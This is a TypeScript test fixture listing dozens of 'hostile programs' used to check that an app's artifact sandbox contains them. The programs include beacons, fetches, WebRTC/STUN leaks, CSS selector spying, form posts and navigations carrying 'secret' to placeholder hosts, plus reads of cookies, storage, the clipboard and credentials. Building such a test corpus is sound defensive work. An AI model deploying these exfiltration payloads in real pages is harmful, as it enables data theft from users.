/** A program that tries to get out of the sandbox of artifacts. */
export interface HostileProgram {
  id: string;
  /** `{http}`, `{ws}`, `{udp}` stand for addresses that nothing may reach, `{app}` for the origin of the app. */
  html: string;
}

/**
 * What each program has: `breach` says what it got hold of, and `leave` comes before it gives up its page. A program that says neither
 * `ran` nor `ended` proves nothing, so the test waits for both.
 */
const prelude = (id: string): string => `
const tell = (what) => parent.postMessage({ hostile: ${JSON.stringify(id)}, ...what }, '*');
const breach = (what) => tell({ breach: String(what) });
const leave = () => tell({ ended: true });
const within = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 600))]);
const frameOf = (markup) => { const frame = document.createElement('iframe'); if (markup) frame.srcdoc = markup; document.body.append(frame); return frame; };
tell({ ran: true });`;

const script = (id: string, body: string): HostileProgram => ({
  id,
  html: `<!doctype html><body><script>${prelude(id)}
(async () => { ${body} })().catch(() => {}).finally(leave);</script></body>`,
});

/** Markup that loads by itself; it has its time before the program ends. */
const markup = (id: string, html: string): HostileProgram => ({
  id,
  html: `<!doctype html><head></head><body>${html}<script>${prelude(id)}setTimeout(leave, 300);</script></body>`,
});

/** Code that leaves its page, so it ends before. */
const leaving = (id: string, body: string): HostileProgram => ({
  id,
  html: `<!doctype html><body><script>${prelude(id)}leave(); ${body}</script></body>`,
});

const reads = (id: string, expression: string): HostileProgram =>
  script(
    `read: ${id}`,
    `const got = await within((async () => (${expression}))()); if (got !== undefined && got !== null && got !== '') breach(got);`,
  );

const network: readonly HostileProgram[] = [
  script('fetch', `await within(fetch('{http}/fetch'));`),
  script('fetch without cors', `await within(fetch('{http}/fetch', { mode: 'no-cors', keepalive: true }));`),
  script('fetch of the app', `const answer = await fetch('{app}/api/canary'); breach(answer.status);`),
  script('fetch later', `window.fetchLater?.('{http}/later', { activateAfter: 0 });`),
  script(
    'XMLHttpRequest',
    `const request = new XMLHttpRequest(); request.open('GET', '{http}/xhr'); request.send(); await within(new Promise((done) => (request.onloadend = done)));`,
  ),
  script(
    'synchronous XMLHttpRequest',
    `const request = new XMLHttpRequest(); request.open('POST', '{http}/xhr', false); request.send('x');`,
  ),
  script('beacon', `navigator.sendBeacon('{http}/beacon', 'secret');`),
  script(
    'WebSocket',
    `const socket = new WebSocket('{ws}/socket'); await within(new Promise((done) => (socket.onclose = done))); `,
  ),
  script(
    'EventSource',
    `const events = new EventSource('{http}/events'); await within(new Promise((done) => (events.onerror = done)));`,
  ),
  script('WebTransport', `await within(new WebTransport('https://127.0.0.1:1/canary').ready);`),
  script(
    'WebRTC',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await within(new Promise(() => {}));`,
  ),
  script(
    'WebRTC of a frame',
    `const { RTCPeerConnection: Peer } = frameOf().contentWindow; const peer = new Peer({ iceServers: [{ urls: 'stun:{udp}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await within(new Promise(() => {}));`,
  ),
  script(
    'WebRTC in a frame',
    `frameOf("<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</" + 'script>'); await within(new Promise(() => {}));`,
  ),
  script(
    'WebRTC in a frame of a script address',
    `const frame = document.createElement('iframe'); frame.src = "javascript:(() => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); })()"; document.body.append(frame); await within(new Promise(() => {}));`,
  ),
  script(
    'WebRTC in a frame with a script of a blob',
    `const code = "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));"; const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' })); frameOf('<script src="' + url + '"></' + 'script><script type="module" crossorigin src="' + url + '"></' + 'script>'); await within(new Promise(() => {}));`,
  ),
  script(
    'WebRTC in a frame with the code of the sandbox',
    `const own = performance.getEntriesByType('resource').find(({ name }) => name.includes('artifact-')).name; const frame = frameOf('<script type="module" crossorigin src="' + own + '"></' + 'script>'); await within(new Promise((done) => addEventListener('message', done))); for (const type of ['program', 'page']) frame.contentWindow.postMessage({ nonce: '', type, code: "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));", html: "<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</" + 'script>', css: '', libraries: 'vue' }, '*'); await within(new Promise(() => {}));`,
  ),
  script(
    'image by script',
    `const image = new Image(); image.src = '{http}/image'; await within(image.decode());`,
  ),
  script('import of a module', `await within(import('{http}/module.js'));`),
  script(
    'worker of a blob',
    `new Worker(URL.createObjectURL(new Blob(["importScripts('{http}/worker.js')"])));
    await within(new Promise(() => {}));`,
  ),
  script(
    'worker of a data address',
    `new Worker('data:text/javascript,importScripts("{http}/worker.js")'); await within(new Promise(() => {}));`,
  ),
  script('worker of an address', `new Worker('{http}/worker.js');`),
  script('shared worker', `new SharedWorker('data:text/javascript,fetch("{http}/shared")');`),
  script('service worker', `await navigator.serviceWorker.register('{app}/sw.js'); breach('registered');`),
  script('worklet', `await within(new AudioContext().audioWorklet.addModule('{http}/worklet.js'));`),
  script('style worklet', `await within(CSS.paintWorklet.addModule('{http}/paint.js'));`),
  script('font by script', `await within(new FontFace('x', 'url({http}/font.woff2)').load());`),
  script(
    'style sheet by script',
    `const sheet = new CSSStyleSheet(); await within(sheet.replace('body { background: url({http}/sheet.png) }')); document.adoptedStyleSheets = [sheet]; await within(new Promise(() => {}));`,
  ),
  script(
    'frame that fetches',
    `frameOf("<script>fetch('{http}/frame')</" + 'script>'); await within(new Promise(() => {}));`,
  ),
  script(
    'fetch of a frame',
    `await within(frameOf().contentWindow.fetch('{http}/frame-fetch', { mode: 'no-cors' }));`,
  ),
  script(
    'policy written anew',
    `document.open(); document.write('<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="{http}/rewritten">'); document.close(); await within(new Promise(() => {}));`,
  ),
  script(
    'page of a blob',
    `const page = URL.createObjectURL(new Blob(['<img src="{http}/blob">'], { type: 'text/html' })); const frame = document.createElement('iframe'); frame.src = page; document.body.append(frame); await within(new Promise(() => {}));`,
  ),
  script('registered protocol', `navigator.registerProtocolHandler('web+canary', '{http}/%s');`),
  script(
    'media source',
    `const video = document.createElement('video'); video.src = '{http}/video.mp4'; await within(video.play());`,
  ),
];

const loads: readonly HostileProgram[] = (
  [
    ['image', '<img src="{http}/img">'],
    ['image of a set', '<img srcset="{http}/set 1x">'],
    ['image of the app', '<img src="{app}/canary.png">'],
    ['picture', '<picture><source srcset="{http}/picture"><img></picture>'],
    ['video', '<video src="{http}/video" poster="{http}/poster" autoplay></video>'],
    ['audio', '<audio src="{http}/audio" autoplay></audio>'],
    ['track', '<video><track default src="{http}/track"></video>'],
    ['object', '<object data="{http}/object"></object>'],
    ['embed', '<embed src="{http}/embed">'],
    ['frame', '<iframe src="{http}/frame"></iframe>'],
    ['frame of a text', `<iframe srcdoc="<img src='{http}/srcdoc'>"></iframe>`],
    ['frame of the app', '<iframe src="{app}/?canary"></iframe>'],
    ['object of the app', '<object data="{app}/?canary" type="text/html"></object>'],
    ['fenced frame', '<fencedframe config="{http}/fenced"></fencedframe>'],
    ['script', '<script src="{http}/script.js"></script>'],
    ['module', '<script type="module">import "{http}/module.js"</script>'],
    [
      'import map',
      '<script type="importmap">{"imports":{"x":"{http}/map.js"}}</script><script type="module">import "x"</script>',
    ],
    [
      'speculation',
      '<script type="speculationrules">{"prefetch":[{"urls":["{http}/speculation"],"eagerness":"immediate"}],"prerender":[{"urls":["{http}/prerender"],"eagerness":"immediate"}]}</script>',
    ],
    ['style sheet', '<link rel="stylesheet" href="{http}/style.css">'],
    ['preload', '<link rel="preload" as="image" href="{http}/preload">'],
    ['module preload', '<link rel="modulepreload" href="{http}/preload.js">'],
    ['prefetch', '<link rel="prefetch" href="{http}/prefetch">'],
    ['prerender', '<link rel="prerender" href="{http}/prerender">'],
    ['preconnect', '<link rel="preconnect" href="{http}">'],
    ['icon', '<link rel="icon" href="{http}/icon">'],
    ['manifest', '<link rel="manifest" href="{http}/manifest">'],
    ['import in a style', '<style>@import "{http}/import.css";</style>'],
    ['background', '<style>body{background:url({http}/background)}</style>'],
    ['background in an attribute', '<p style="background:image-set(url({http}/attribute) 1x)">x</p>'],
    ['font', '<style>@font-face{font-family:x;src:url({http}/font)}p{font-family:x}</style><p>x</p>'],
    [
      'cursor and marker',
      '<style>li{list-style-image:url({http}/marker);cursor:url({http}/cursor),auto}</style><ul><li>x</ul>',
    ],
    [
      'selector that spies',
      '<input value="secret"><style>input[value^=s]{background:url({http}/selector)}</style>',
    ],
    ['image in SVG', '<svg><image href="{http}/svg"/><use href="{http}/use#a"/></svg>'],
    [
      'filter in SVG',
      '<svg><filter id="f"><feImage href="{http}/fe"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    ],
    ['base', '<base href="{http}/"><img src="base">'],
    [
      'report',
      '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri {http}/report"><img src="data:,x">',
    ],
  ] as const
).map(([id, html]) => markup(`load: ${id}`, html));

const leaves: readonly HostileProgram[] = [
  leaving('go elsewhere', `location.href = '{http}/location?secret';`),
  leaving('replace the page', `location.replace('{http}/replace');`),
  leaving(
    'refresh the page',
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url={http}/refresh">');`,
  ),
  leaving('go to a data address', `location.href = 'data:text/html,<img src="{http}/data">';`),
  leaving('go to a script', `location.href = "javascript:fetch('{http}/script')";`),
  leaving('go to mail', `location.href = 'mailto:canary@example.org?body=secret';`),
  leaving('move the window', `top.location.href = '{http}/top';`),
  leaving('move the parent', `parent.location = '{http}/parent';`),
  leaving('replace the parent by a script', `parent.location = "javascript:document.title='canary'";`),
  leaving('close the window', `top.close(); parent.close();`),
  leaving('open a window', `if (window.open('{http}/popup')) breach('a window');`),
  leaving('open its parent', `if (window.open('{http}/popup', '_top')) breach('a window');`),
  leaving(
    'press a link',
    `const link = document.createElement('a'); link.href = '{http}/link'; link.ping = '{http}/ping'; link.target = '_blank'; document.body.append(link); link.click(); link.target = '_top'; link.click(); link.target = ''; link.click();`,
  ),
  leaving(
    'send a form',
    `document.body.insertAdjacentHTML('beforeend', '<form method="post" action="{http}/form"><input name="a" value="secret"></form>'); document.forms[0].submit();`,
  ),
  leaving(
    'send a form to the window',
    `document.body.insertAdjacentHTML('beforeend', '<form target="_top" action="{http}/form"><button>x</button></form>'); document.querySelector('button').click();`,
  ),
  leaving(
    'download',
    `const link = document.createElement('a'); link.download = 'canary.txt'; link.href = URL.createObjectURL(new Blob(['x'])); link.click();`,
  ),
  leaving(
    'go back in the history',
    `history.back(); history.go(-2); frameOf().contentWindow.history.back();`,
  ),
  leaving(
    'ask the person',
    `alert('canary'); if (confirm('canary')) breach('confirm'); if (prompt('canary')) breach('prompt'); print();`,
  ),
  leaving(
    'hold the page',
    `addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'canary'; }); onunload = () => alert('canary');`,
  ),
];

const access: readonly HostileProgram[] = [
  reads('the document of the page', `parent.document.title`),
  reads('the document of the window', `top.document.body.innerText`),
  reads('the address of the page', `parent.location.href`),
  reads('the storage of the page', `parent.localStorage.length`),
  reads('the frame of the program', `frameElement`),
  reads(
    'a sibling',
    `[...Array(parent.length).keys()].map((at) => parent[at]).find((one) => one !== window).document.title`,
  ),
  reads('the window that opened it', `opener`),
  reads('the page that referred', `document.referrer`),
  reads('the ancestors', `location.ancestorOrigins?.[0] === '{app}' ? '' : location.ancestorOrigins?.[0]`),
  reads('the origin', `origin === 'null' ? '' : origin`),
  reads('cookies', `document.cookie`),
  reads('cookies that it sets', `(document.cookie = 'canary=1', document.cookie)`),
  reads('the cookie store', `cookieStore.getAll().then((all) => all.length)`),
  reads('local storage', `(localStorage.setItem('a', 'b'), localStorage.getItem('a'))`),
  reads('session storage', `sessionStorage.length`),
  reads(
    'databases',
    `new Promise((done, fail) => { const open = indexedDB.open('canary'); open.onsuccess = () => done('open'); open.onerror = fail; })`,
  ),
  reads('caches', `caches.keys().then((keys) => keys.length)`),
  reads('the private file system', `navigator.storage.getDirectory()`),
  reads('storage access', `document.requestStorageAccess().then(() => 'granted')`),
  reads(
    'a channel of the app',
    `new Promise((done) => { const channel = new BroadcastChannel('stoa'); channel.onmessage = ({ data }) => done(data); })`,
  ),
  reads('locks', `navigator.locks.request('canary', () => 'locked')`),
  reads('credentials', `navigator.credentials.get({ password: true })`),
  reads('the clipboard', `navigator.clipboard.readText()`),
  reads('the clipboard, to write', `navigator.clipboard.writeText('canary').then(() => 'written')`),
  reads(
    'the place',
    `new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('place'), fail))`,
  ),
  reads('the camera', `navigator.mediaDevices.getUserMedia({ video: true, audio: true })`),
  reads('notices', `Notification.requestPermission().then((state) => (state === 'granted' ? state : ''))`),
  reads('the screen', `document.documentElement.requestFullscreen().then(() => 'full')`),
  reads('the pointer', `document.body.requestPointerLock().then(() => 'locked')`),
  reads('the domain', `((document.domain = '127.0.0.1'), 'set')`),
  reads(
    'payment',
    `new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()`,
  ),
  reads('the code of the app', `import('{app}/assets/').then(() => 'module')`),
];

/** Every program that the sandbox must hold. @source security.md S */
export const hostilePrograms: readonly HostileProgram[] = [...network, ...loads, ...leaves, ...access];
